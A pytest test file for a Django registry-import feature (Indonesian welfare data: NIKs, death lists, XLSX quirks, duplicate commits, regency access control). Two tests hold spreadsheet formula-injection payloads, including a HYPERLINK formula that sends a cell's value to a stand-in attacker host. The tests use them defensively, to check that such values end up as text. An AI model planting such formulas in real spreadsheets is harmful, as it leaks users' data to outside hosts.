"""Registry imports at their edges (issue 14, found by a review): formulas in the report,
region codes without dots, a remarks column, a death list naming one NIK twice or a record
merged twice, a NIK in the wrong column, an XLSX that under-states its size, a NIK Excel
stored as a number, two clicks on commit, another regency."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from agencies.models import Role
from cases.models import ImportState, LifeStatus, Person, RegistryImport
from cases.registry_import.services import registry_import_create
from tests.cases.import_files import (
    HEADER,
    csv_file,
    dry_run,
    extract_row,
    imported,
    xlsx_file,
)
from tests.conftest import NIBUNG, NIK_FEMALE, NIK_MALE, intake, make_user, person

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def private_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def report_book(registry_import):
    with registry_import.report.open("rb") as stream:
        return load_workbook(io.BytesIO(stream.read()))  # formulas kept, not data_only


def lines(registry_import):
    book = report_book(registry_import)
    return [[c.value for c in row] for row in book.worksheets[1].iter_rows(min_row=2)]


def test_a_name_starting_with_equals_is_text_in_the_report_not_a_formula(staff):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    checked = dry_run(staff["backoffice"], csv_file([extract_row(NAMA=evil)]))
    sheet = report_book(checked).worksheets[1]
    cell = sheet.cell(row=2, column=3)
    assert cell.data_type != "f", f"name written as a formula: {cell.value!r}"


def test_a_file_name_starting_with_equals_is_text_in_the_summary(staff):
    checked = dry_run(
        staff["backoffice"], csv_file([extract_row()]), name='=HYPERLINK("evil.example","Klik").csv'
    )
    cell = report_book(checked).worksheets[0].cell(row=1, column=2)
    assert cell.data_type != "f", f"file name written as a formula: {cell.value!r}"


def test_a_region_code_without_dots_is_recognised(staff):
    checked = dry_run(staff["backoffice"], csv_file([extract_row(KODE_WILAYAH="1904012003")]))
    assert checked.errors == 0, lines(checked)


def test_a_remarks_column_does_not_replace_the_status_column(staff):
    header = [*HEADER, "KETERANGAN"]
    row = extract_row(KETERANGAN="Pindah alamat 2024")
    checked = dry_run(staff["backoffice"], csv_file([row], header=header))
    assert checked.errors == 0, lines(checked)


def test_a_death_list_naming_one_nik_twice_reports_the_second_row(staff):
    intake(staff["petugas"])
    content = (
        "NIK,TANGGAL_MENINGGAL,SUMBER\n"
        f"{NIK_MALE},01-10-2026,Dukcapil\n"
        f"{NIK_MALE},15-10-2026,Dukcapil\n"
    ).encode()
    checked = dry_run(staff["backoffice"], content, kind="deaths")
    by_row = {line[0]: line for line in lines(checked)}
    assert checked.errors == 1, by_row  # the repeated NIK, as in an extract


def test_a_death_of_a_record_merged_twice_marks_the_final_record(staff):
    a = intake(staff["petugas"]).case.beneficiary
    b = Person.objects.create(full_name="Budi S", no_nik_reason="x", sex="M", region_id=NIBUNG)
    c = Person.objects.create(full_name="Budi S.", no_nik_reason="x", sex="M", region_id=NIBUNG)
    Person.objects.filter(pk=a.pk).update(merged_into=b, life_status=LifeStatus.MERGED)
    Person.objects.filter(pk=b.pk).update(merged_into=c, life_status=LifeStatus.MERGED)
    content = f"NIK,TANGGAL_MENINGGAL\n{NIK_MALE},01-10-2026\n".encode()
    done = imported(staff["backoffice"], content, kind="deaths")
    # Today: the commit tries to mark B (a tombstone) deceased, the CHECK constraint
    # person_merged_is_tombstone fails, the import is "failed: kesalahan sistem", every time.
    assert done.state == ImportState.DONE, done.failure
    b.refresh_from_db()
    c.refresh_from_db()
    assert b.life_status == LifeStatus.MERGED, "the tombstone B was marked deceased"
    assert c.life_status == LifeStatus.DECEASED


def test_a_death_list_disagreeing_with_a_recorded_death_date_warns(staff):
    budi = intake(staff["petugas"]).case.beneficiary
    imported(
        staff["backoffice"],
        f"NIK,TANGGAL_MENINGGAL\n{NIK_MALE},01-10-2026\n".encode(),
        kind="deaths",
    )
    again = dry_run(
        staff["backoffice"],
        f"NIK,TANGGAL_MENINGGAL\n{NIK_MALE},01-03-2025\n".encode(),
        kind="deaths",
    )
    assert again.warnings == 1, lines(again)  # today: silently "updated" to the other date
    budi.refresh_from_db()


def test_a_nik_in_the_region_column_is_not_echoed_whole(staff):
    checked = dry_run(staff["backoffice"], csv_file([extract_row(KODE_WILAYAH=NIK_FEMALE)]))
    text = repr(lines(checked))
    assert NIK_FEMALE not in text, text


def _with_dimension(content: bytes, ref: bytes) -> bytes:
    src, out = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="' + ref + b'"', data)
            target.writestr(item.filename, data)
    return out.getvalue()


def test_an_xlsx_with_a_wrong_dimension_tag_loses_no_rows(staff):
    wife = extract_row(NIK=NIK_FEMALE, NAMA="Siti Aminah", JENIS_KELAMIN="P")
    content = _with_dimension(xlsx_file([extract_row(), wife]), b"A1:M2")
    done = imported(staff["backoffice"], content, name="dtks.xlsx")
    # Today: total_rows 1, accepted 1, "Selesai", and Siti silently not imported.
    assert done.total_rows == 2 and Person.objects.count() == 2, (done.total_rows, done.created)


def test_an_xlsx_whose_dimension_is_a1_is_read(staff):
    content = _with_dimension(xlsx_file([extract_row()]), b"A1")
    checked = dry_run(staff["backoffice"], content, name="dtks.xlsx")
    assert checked.state == ImportState.CHECKED, checked.failure  # today: "Kolom wajib tidak ada"


def test_a_numeric_nik_cell_in_a_death_list_is_not_trusted_blindly(staff):
    """Excel stores 1904011208850012 typed as a number as 1904011208850010 (15 digits): a
    death list saved that way names another, real person. The cell is numeric in the XLSX,
    so the import can tell: it should at least warn, never mark silently."""
    neighbour = intake(staff["petugas"], applicant=person(nik="1904011208850010")).case.beneficiary
    book = Workbook()
    sheet = book.active
    sheet.append(["NIK", "TANGGAL_MENINGGAL"])
    sheet.append([1904011208850010, "01-10-2026"])  # what Excel kept of ...0012
    stream = io.BytesIO()
    book.save(stream)
    checked = dry_run(staff["backoffice"], stream.getvalue(), name="kematian.xlsx", kind="deaths")
    assert checked.warnings + checked.errors == 1, lines(checked)  # today: "Diterima"
    neighbour.refresh_from_db()


def test_two_commits_of_one_import_write_once_and_answer_cleanly(
    client, staff, django_capture_on_commit_callbacks
):
    checked = dry_run(staff["backoffice"], csv_file([extract_row()]))
    client.force_login(staff["backoffice"])
    url = reverse("import_commit", args=[checked.pk])
    with django_capture_on_commit_callbacks(execute=True):
        first = client.post(url, {"form_token": "a" * 32})
        second = client.post(url, {"form_token": "b" * 32})
    assert (first.status_code, second.status_code) == (302, 302)
    assert Person.objects.count() == 1
    assert Person.history.count() == 1


def test_another_regencys_back_office_cannot_commit_a_checked_import(client, staff, offices):
    other = make_user("bo.bks2", Role.BACK_OFFICE, "14.03", office=offices["slrt_bks"])
    checked = dry_run(staff["backoffice"], csv_file([extract_row()]))
    client.force_login(other)
    assert client.post(reverse("import_commit", args=[checked.pk])).status_code == 404
    checked.refresh_from_db()
    assert checked.state == ImportState.CHECKED and not Person.objects.exists()


def test_the_progress_poll_costs_few_queries(client, staff, django_assert_max_num_queries):
    running = registry_import_create(
        actor=staff["backoffice"],
        kind="extract",
        file=ContentFile(csv_file([extract_row()])),
        filename="dtks.csv",
    )
    client.force_login(staff["backoffice"])
    with django_assert_max_num_queries(6):
        response = client.get(reverse("import_progress", args=[running.pk]))
    assert response.status_code == 200


def test_a_nik_or_kk_excel_stored_as_a_number_is_refused_with_the_reason(staff):
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER)
    row = extract_row()
    cells = [row[name] for name in HEADER]
    sheet.append([int(row["NIK"]), int(row["NO_KK"]), *cells[2:]])
    stream = io.BytesIO()
    book.save(stream)
    checked = dry_run(staff["backoffice"], stream.getvalue(), name="dtks.xlsx")
    messages = [line[6] for line in lines(checked)]
    assert checked.errors == 1
    assert "Tersimpan sebagai angka di Excel" in " ".join(m or "" for m in messages)


def test_an_import_whose_job_was_lost_can_be_started_again(
    client, staff, django_capture_on_commit_callbacks
):
    lost = registry_import_create(
        actor=staff["backoffice"],
        kind="extract",
        file=ContentFile(csv_file([extract_row()])),
        filename="dtks.csv",
    )  # its job never ran (the process restarted): it stays "checking"
    client.force_login(staff["backoffice"])
    url = reverse("import_detail", args=[lost.pk])
    assert "Jalankan lagi" not in client.get(url).content.decode()  # still young
    refused = client.post(reverse("import_restart", args=[lost.pk]), follow=True)
    assert "tidak terhenti" in refused.content.decode()

    RegistryImport.objects.filter(pk=lost.pk).update(
        created_at=timezone.now() - dt.timedelta(minutes=20)
    )
    assert "Jalankan lagi" in client.get(url).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("import_restart", args=[lost.pk]))
    lost.refresh_from_db()
    assert lost.state == ImportState.CHECKED and lost.total_rows == 1
    client.force_login(staff["petugas"])
    assert client.post(reverse("import_restart", args=[lost.pk])).status_code == 403


def test_a_windows_1252_name_far_down_the_file_is_read_as_written(staff):
    filler = [extract_row(NIK="", NAMA=f"Baris kosong {n}") for n in range(700)]
    rows = [*filler, extract_row(NAMA="José Ramos")]
    content = csv_file(rows).decode().encode("cp1252")
    assert len(content) > 64 * 1024
    checked = dry_run(staff["backoffice"], content)
    names = [line[2] for line in lines(checked) if line[0] == len(rows) + 1]
    assert names == ["José Ramos"]


def test_excels_unicode_text_is_read(staff):
    text = csv_file([extract_row()]).decode().replace(",", "\t")
    checked = dry_run(staff["backoffice"], text.encode("utf-16"))
    assert checked.state == ImportState.CHECKED and checked.errors == 0, lines(checked)


def test_a_nik_in_scientific_notation_says_so(staff):
    checked = dry_run(staff["backoffice"], csv_file([extract_row(NIK="1.90401E+15")]))
    assert "notasi ilmiah" in " ".join(line[6] or "" for line in lines(checked))


def test_a_file_past_the_row_limit_is_refused_before_any_work(settings, staff):
    settings.REGISTRY_IMPORT_MAX_ROWS = 2
    rows = [extract_row(NIK=f"19040112088500{n:02d}") for n in range(1, 5)]
    checked = dry_run(staff["backoffice"], csv_file(rows))
    assert checked.state == ImportState.FAILED
    assert "Berkas lebih dari 2 baris" in checked.failure
